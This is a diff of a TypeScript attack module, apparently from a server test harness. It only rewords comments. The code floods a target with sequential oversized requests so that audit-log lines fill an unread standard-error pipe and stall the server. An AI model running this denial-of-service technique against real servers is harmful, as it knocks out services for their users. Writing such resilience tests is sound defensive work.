@@ -1,12 +1,12 @@
-/** Refused requests to a server whose standard error nobody reads: each leaves a long line in the audit log. */
+/** Refused requests to a server with an unread standard error: each causes a long line in the audit log. */
 import type { Attack } from "./attack.js";
 import { ended, open } from "./sockets.js";
 
 const connections = 8;
-/** In all 38 MB of lines: several times what any queue holds. */
+/** In total 38 MB of lines: several times the capacity of any queue. */
 const requestsPerConnection = 400;
 
-/** Their lines take some 12 KB each, so that a pipe of 64 KiB and any queue behind it are soon full. */
+/** Their lines have about 12 KB each, so that a pipe of 64 KiB and any queue behind it are soon full. */
 const tags = Array.from({ length: 50 }, (_, index) => `tag=${String(index).padStart(240, "x")}`).join("&");
 
 const request = [
@@ -28,7 +28,7 @@ export const unreadOutput: Attack = {
       Array.from({ length: connections }, async () => {
         const socket = open(target);
         let left = requestsPerConnection;
-        // One after another: an answer is what the next request waits for.
+        // One after the other: the next request waits for the response.
         const next = () => void (left-- > 0 ? socket.write(request) : socket.end());
         socket.on("data", next);
         next();
